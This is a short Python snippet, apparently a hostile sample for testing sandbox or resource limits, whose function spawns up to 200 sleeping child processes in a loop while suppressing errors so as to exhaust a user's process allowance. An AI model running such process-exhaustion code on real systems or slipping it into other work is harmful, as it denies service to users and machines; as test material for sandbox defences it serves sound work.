"""Hostile: Uses up every process that its user may have, and stays."""


def act(x):
    left = 200
    for _ in until(30):
        with contextlib.suppress(OSError):
            while left:
                child(lambda: time.sleep(30))
                left -= 1
        time.sleep(0.1)
